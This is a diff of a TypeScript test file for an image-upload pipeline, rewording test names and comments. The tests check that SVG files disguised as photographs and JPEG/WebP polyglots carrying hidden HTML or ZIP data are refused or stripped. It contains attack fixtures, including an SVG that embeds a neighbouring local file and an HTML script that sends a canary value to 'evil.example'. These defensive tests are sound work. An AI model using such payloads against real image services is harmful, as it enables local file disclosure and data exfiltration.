@@ -16,30 +16,30 @@ afterAll(() => workers.close());
 const make = async (input: { file: string; name: string }) =>
   workers.makePicture(input, await tempFolder(), { parameters: small }, never);
 
-describe('a drawing that passes for a photograph', () => {
+describe('an SVG drawing named like a photograph', () => {
   const drawing = (side: number, ...links: string[]) =>
     Buffer.from(
       `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${side}" ` +
         `height="${side}">${links.map((link) => `<image xlink:href="${link}" width="${side}" height="${side}"/>`)}</svg>`,
     );
 
-  /** A drawing that shows the picture that lies beside it. */
+  /** A drawing that embeds the picture beside it. */
   async function withNeighbour(...more: string[]) {
     const input = await sent(drawing(64, 'secret.png', ...more), 'holiday.jpg');
     await writeFile(join(dirname(input.file), 'secret.png'), await plain(64, 64, '#ff0000').png().toBuffer());
     return input;
   }
 
-  it('shows its neighbour to a libvips that may draw it: so the bait works', async () => {
+  it('shows the picture beside it when libvips may draw SVG (proof that the bait works)', async () => {
     const { file } = await withNeighbour();
     expect((await colourAt(file, 0.5, 0.5)).slice(0, 3)).toEqual([255, 0, 0]);
   });
 
-  it('I1: is refused, and reads no file beside it', async () => {
+  it('I1: is refused, and no file beside it is read', async () => {
     await expect(make(await withNeighbour())).rejects.toMatchObject({ code: 'picture_unsupported' });
   });
 
-  it('I1: is refused, and asks no server', async () => {
+  it('I1: is refused, and no server is contacted', async () => {
     let asked = 0;
     const server = createServer((_request, response) => {
       asked += 1;
@@ -52,17 +52,17 @@ describe('a drawing that passes for a photograph', () => {
     expect(asked).toBe(0);
   });
 
-  it('I1: is refused without a pixel drawn, however large it says it is', async () => {
-    // 256 megapixels: less than libvips allows by itself.
+  it('I1: is refused before anything is drawn, whatever size it claims', async () => {
+    // 256 megapixels: less than the default limit of libvips.
     const input = await sent(drawing(16_000), 'holiday.jpg');
     await expect(make(input)).rejects.toMatchObject({ code: 'picture_unsupported', where: 'holiday.jpg' });
   });
 });
 
-describe('a picture that is something else besides', () => {
+describe('a picture that is also something else', () => {
   const secret = 'canary-8d41f0';
   const html = Buffer.from(`<html><script>fetch("//evil.example/${secret}")</script></html>`);
-  /** The local header of a ZIP file and its data: enough for a program that looks for one. */
+  /** The local header of a ZIP file and its data: enough for a program that searches for ZIP files. */
   const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), deflateRawSync(html), html]);
   const inComment = (jpeg: Buffer): Buffer => {
     const head = Buffer.from([0xff, 0xfe, 0, html.length + 2]);
@@ -80,7 +80,7 @@ describe('a picture that is something else besides', () => {
       'WebP with a page behind it',
       async () => Buffer.concat([await noise(640, 100).webp().toBuffer(), html]),
     ],
-  ])('I3: %s is published without it', async (_, picture) => {
+  ])('I3: %s is published without the addition', async (_, picture) => {
     const { folder, media } = await made(workers, await picture(), signed);
     expect(media.width).toBe(640);
     for (const name of await readdir(folder)) {
@@ -91,7 +91,7 @@ describe('a picture that is something else besides', () => {
   });
 
   it.each([
-    ['the first bytes of none', Buffer.alloc(8), 'picture_unsupported'],
+    ['the first bytes of no format', Buffer.alloc(8), 'picture_unsupported'],
     ['the first bytes of another format', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), 'picture_broken'],
   ])('I3: with %s is refused', async (_, magic, code) => {
     const picture = Buffer.concat([magic, (await jpeg()).subarray(magic.length)]);
@@ -102,7 +102,7 @@ describe('a picture that is something else besides', () => {
     });
   });
 
-  it('is known by its bytes, not by its name', async () => {
+  it('is recognised by its bytes, not by its name', async () => {
     const input = await sent(
       await sharp(await jpeg())
         .webp()
